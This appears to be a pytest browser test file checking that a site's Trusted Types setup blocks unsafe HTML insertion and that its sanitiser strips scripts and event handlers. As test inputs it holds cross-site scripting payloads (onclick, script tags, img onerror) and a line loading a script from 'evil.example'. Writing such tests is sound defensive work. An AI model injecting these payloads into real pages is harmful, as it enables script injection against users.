"""In a browser that supports it, no script can turn text into elements except by the one function that is safe."""

import pytest

USE = """async () => {
  const { parsed } = await import("/static/elements.js");
  const page = parsed('<p onclick="x()">a<script>window.ran = 1</scr' + 'ipt><img src="x" onerror="window.ran = 1"></p>');
  document.querySelector("main").replaceChildren(...page.body.childNodes);
  return [document.querySelector("main").innerHTML, window.ran ?? null];
}"""


@pytest.mark.parametrize(
    "script",
    [
        "document.body.outerHTML = '<p>x</p>'",
        "document.body.insertAdjacentHTML('beforeend', '<p>x</p>')",
        "new DOMParser().parseFromString('<p>x</p>', 'text/html')",
        "trustedTypes.createPolicy('other', { createHTML: (text) => text })",
        "document.createElement('script').src = 'https://evil.example/x.js'",
    ],
)
def test_text_becomes_no_element(walk, script):
    person = walk()
    person.go("/sign-in")
    assert "TypeError" in person.page.evaluate(
        f"() => {{ try {{ {script}; return 'done' }} catch (e) {{ return `${{e}}` }} }}"
    )


def test_the_one_function_drops_scripts_and_handlers(walk):
    person = walk()
    person.go("/sign-in")
    assert person.page.evaluate(USE) == ['<p>a<img src="x"></p>', None]
